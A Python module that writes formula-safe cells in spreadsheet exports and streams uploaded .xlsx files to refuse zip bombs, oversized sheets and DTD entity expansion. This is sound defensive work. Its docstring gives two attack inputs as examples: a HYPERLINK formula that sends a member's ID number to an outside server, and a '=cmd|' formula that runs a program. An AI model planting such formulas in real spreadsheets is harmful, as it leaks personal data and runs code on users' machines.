"""Spreadsheets exchanged with users: formula-safe cells out, a guard on .xlsx files in.

Out. A text cell starting with = + - @, a tab or a carriage return is read as a formula by Excel and
LibreOffice, and by any tool that re-reads a copy (a CSV saved from the sheet, a paste into another one):
`=HYPERLINK("https://…/?"&I2;"Xem")` sends a member's CCCD to a stranger's server in one click, `=cmd|…`
asks to run a program. Every cell an export writes goes through `safe_cell`: such a text gets a quote in
front and is stored as text, never as a formula. `cell_text` takes the quote off again when a sheet is read,
so an export → import round trip changes nothing (texts that themselves start with a quote get one more).

In. An .xlsx is a zip of XML parts. Zip compresses repetition about a thousandfold, so a 200 KB upload can
hold a 200 MB cell or a million rows, and openpyxl materialises all of it (and pads every row to the
sheet's declared width, and fills every gap between row numbers). Two checks stop that before openpyxl:
`inspect_xlsx` reads the zip's directory and the first kilobytes of each part (cheap: the upload request
runs it), `scan_xlsx` streams every XML part once without keeping it and stops at the first limit crossed
(the worker runs it before parsing). Python's zipfile never returns more bytes of a part than the
directory declares, so the declared sizes are a real ceiling.
"""

import functools
import zipfile
from dataclasses import dataclass
from xml.parsers import expat

from django.utils.formats import number_format
from openpyxl.cell import WriteOnlyCell
from openpyxl.utils.cell import column_index_from_string, range_boundaries

from .errors import DomainError

# What makes a spreadsheet (or a CSV reader) take a text for a formula (OWASP, "CSV injection"); and the line
# feed, because a carriage return written to the XML of a sheet is read back as one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
QUOTE = "'"


def formula_safe(value):
    """The value to store in a cell: a text that a spreadsheet would evaluate gets a leading quote."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + value
    return value


def cell_text(value):
    """A cell's value as written before `formula_safe`: one leading quote before = + - @ tab CR or ' is removed."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:2] and value[1] in (*FORMULA_STARTS, QUOTE):
        return value[1:]
    return value


def safe_cell(sheet, value) -> WriteOnlyCell:
    """A cell of a write-only sheet; the only way exports write cells (see the module docstring)."""
    cell = WriteOnlyCell(sheet, value=formula_safe(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"  # a text, whatever it looks like: openpyxl would make "=…" a formula
    return cell


# The guard on uploads.

UNREADABLE = "Tệp không đọc được: hãy tải lên tệp Excel .xlsx (không phải .xls, .csv hay .pdf)."
# Excel's own limit of a cell; texts outside cells (headers, footers, properties) are held to it too.
EXCEL_MAX_CELL_CHARS = 32_767
# An .xlsx saved by Excel or LibreOffice has a few dozen parts.
MAX_PARTS = 1_000
# Small parts compress unevenly (a style sheet, a theme): the ratio is judged on parts larger than this.
RATIO_MIN_BYTES = 1024 * 1024
# How much of a part `inspect_xlsx` reads at most, and by how much: a sheet declares its size (<dimension>)
# in its first few hundred bytes.
HEAD_BYTES = 64 * 1024
HEAD_CHUNK_BYTES = 4 * 1024
CHUNK_BYTES = 64 * 1024


class SpreadsheetRefused(DomainError):
    """The file is not a readable .xlsx, or crosses a limit; the message names the limit."""


@dataclass(frozen=True)
class XlsxLimits:
    max_uncompressed_bytes: int  # all parts together, as the zip's directory declares them
    max_compression_ratio: int  # uncompressed ÷ compressed size of each part above RATIO_MIN_BYTES
    max_rows: int  # rows of data in a sheet
    max_columns: int  # the rightmost column of a sheet
    max_cell_chars: int  # characters of one cell
    title_rows: int = 0  # lines allowed above the data (a title, the header)

    @property
    def max_lines(self) -> int:
        """The highest row number, and the number of rows, a sheet may have."""
        return self.max_rows + self.title_rows


# Half a million cells in a large roster, a few dozen column letters.
_column_index = functools.lru_cache(maxsize=1024)(column_index_from_string)


def _n(value) -> str:
    return number_format(value, decimal_pos=0, force_grouping=True)  # 20.000


def _refuse_directory(parts: list[zipfile.ZipInfo], limits: XlsxLimits) -> None:
    if len(parts) > MAX_PARTS:
        raise SpreadsheetRefused(f"Tệp có hơn {_n(MAX_PARTS)} thành phần: không phải một tệp Excel thông thường.")
    for part in parts:
        if part.flag_bits & 0x1:
            raise SpreadsheetRefused("Tệp Excel có đặt mật khẩu: hãy bỏ mật khẩu rồi tải lên lại.")
        # Excel only deflates; bzip2 and lzma would decompress a whole block at once, past any limit.
        if part.compress_type not in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
            raise SpreadsheetRefused(UNREADABLE)
    total = sum(part.file_size for part in parts)
    if total > limits.max_uncompressed_bytes:
        raise SpreadsheetRefused(
            f"Nội dung tệp khi giải nén lớn quá {_n(limits.max_uncompressed_bytes / 1024 / 1024)} MB: "
            "hãy chia danh sách thành nhiều tệp."
        )
    for part in parts:
        if part.file_size > RATIO_MIN_BYTES and part.file_size > limits.max_compression_ratio * part.compress_size:
            raise SpreadsheetRefused(
                f"Tệp bị nén bất thường (hơn {_n(limits.max_compression_ratio)} lần): "
                "hãy mở tệp bằng Excel, lưu lại rồi tải lên."
            )


class _Enough(Exception):
    """The head of a part told what `inspect_xlsx` needed."""


class _PartScan:
    """One XML part fed to expat piece by piece: counts rows, columns and characters, keeps nothing."""

    def __init__(self, limits: XlsxLimits, *, head_only: bool):
        self.limits = limits
        self.head_only = head_only
        self.root = None  # "worksheet", "sst" (the shared strings) or another part
        self.rows = self.row_number = self.column = 0
        self.in_cell = False
        self.cell_chars = self.run_chars = 0
        parser = expat.ParserCreate()
        parser.buffer_text = True
        parser.buffer_size = CHUNK_BYTES
        parser.StartElementHandler = self._start
        parser.EndElementHandler = self._end
        parser.CharacterDataHandler = self._text
        # Parts of an .xlsx never declare a DTD; entities could multiply a small text (billion laughs).
        parser.StartDoctypeDeclHandler = self._doctype
        self.parser = parser

    def feed(self, data: bytes, final: bool = False) -> None:
        self.parser.Parse(data, final)

    def _doctype(self, *args):
        raise SpreadsheetRefused(UNREADABLE)

    def _start(self, name, attrs):
        self.run_chars = 0
        local = name.rpartition(":")[2]
        if self.root is None:
            self.root = local
            if self.head_only and local != "worksheet":
                raise _Enough
        elif self.root == "worksheet":
            if local == "c":
                self._cell(attrs.get("r"))
            elif local == "row":
                self._row(attrs.get("r"))
            elif local == "dimension":
                self._dimension(attrs.get("ref", ""))
            elif local == "sheetData" and self.head_only:
                raise _Enough
        elif self.root == "sst" and local == "si":
            self.in_cell, self.cell_chars = True, 0

    def _end(self, name):
        self.run_chars = 0
        if self.in_cell and name.rpartition(":")[2] in ("c", "si"):
            self.in_cell = False

    def _text(self, data):
        self.run_chars += len(data)
        if self.in_cell:
            self.cell_chars += len(data)
            if self.cell_chars > self.limits.max_cell_chars:
                where = f" (dòng {_n(self.row_number)})" if self.root == "worksheet" else ""
                raise SpreadsheetRefused(
                    f"Có ô dài hơn {_n(self.limits.max_cell_chars)} ký tự{where}: "
                    "một ô của danh sách không cần dài như vậy."
                )
        elif self.run_chars > EXCEL_MAX_CELL_CHARS:
            raise SpreadsheetRefused(
                f"Tệp có đoạn văn bản dài hơn {_n(EXCEL_MAX_CELL_CHARS)} ký tự, vượt giới hạn của chính Excel."
            )

    def _too_many_rows(self):
        return SpreadsheetRefused(
            f"Trang tính có hơn {_n(self.limits.max_rows)} dòng: mỗi lần nhập tối đa "
            f"{_n(self.limits.max_rows)} dòng, hãy chia danh sách thành nhiều tệp."
        )

    def _too_many_columns(self):
        return SpreadsheetRefused(f"Trang tính có dữ liệu hoặc định dạng quá cột thứ {_n(self.limits.max_columns)}.")

    def _dimension(self, ref: str) -> None:
        # openpyxl pads every row to the declared width and the sheet to the declared height.
        if not ref:
            return
        _, _, max_column, max_row = range_boundaries(ref)
        if (max_row or 0) > self.limits.max_lines:
            raise self._too_many_rows()
        if (max_column or 0) > self.limits.max_columns:
            raise self._too_many_columns()

    def _row(self, number: str | None) -> None:
        self.rows += 1
        self.column = 0
        # openpyxl yields an empty row for every number skipped: the number counts, not only the rows written.
        self.row_number = int(number) if number else self.row_number + 1
        if max(self.rows, self.row_number) > self.limits.max_lines:
            raise self._too_many_rows()

    def _cell(self, reference: str | None) -> None:
        self.in_cell, self.cell_chars = True, 0
        self.column = _column_index(reference.rstrip("0123456789")) if reference else self.column + 1
        if self.column > self.limits.max_columns:
            raise self._too_many_columns()


def _scan_part(archive: zipfile.ZipFile, part: zipfile.ZipInfo, limits: XlsxLimits, *, head_only: bool) -> None:
    scan = _PartScan(limits, head_only=head_only)
    read, size = 0, HEAD_CHUNK_BYTES if head_only else CHUNK_BYTES
    try:
        with archive.open(part) as source:
            while chunk := source.read(size):
                read += len(chunk)
                scan.feed(chunk)
                if head_only and read >= HEAD_BYTES:
                    return
            scan.feed(b"", final=True)
    except _Enough:
        return
    except expat.ExpatError as error:
        if scan.root is None:
            return  # not XML (an image, a printer setting): openpyxl does not parse it either
        raise SpreadsheetRefused(UNREADABLE) from error
    except (ValueError, zipfile.BadZipFile, EOFError, OSError, RuntimeError) as error:
        # A bad row number or cell reference, a corrupt or truncated part, a password.
        raise SpreadsheetRefused(UNREADABLE) from error


def _check(file, limits: XlsxLimits, *, head_only: bool) -> None:
    position = file.tell() if hasattr(file, "tell") else None
    try:
        with zipfile.ZipFile(file) as archive:
            parts = archive.infolist()
            _refuse_directory(parts, limits)
            for part in parts:
                if not part.is_dir():
                    _scan_part(archive, part, limits, head_only=head_only)
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, ValueError, EOFError) as error:
        raise SpreadsheetRefused(UNREADABLE) from error
    finally:
        if position is not None:
            file.seek(position)


def inspect_xlsx(file, limits: XlsxLimits) -> None:
    """Cheap check of an upload: the zip's directory (part count, sizes, compression ratios, method) and the
    size each sheet declares. Decompresses at most the first HEAD_BYTES of each part."""
    _check(file, limits, head_only=True)


def scan_xlsx(file, limits: XlsxLimits) -> None:
    """Full check before parsing: `inspect_xlsx`, then every XML part streamed once (rows, columns, characters
    of each cell, no DTD), stopping at the first limit crossed. Memory stays at a few chunks."""
    _check(file, limits, head_only=False)
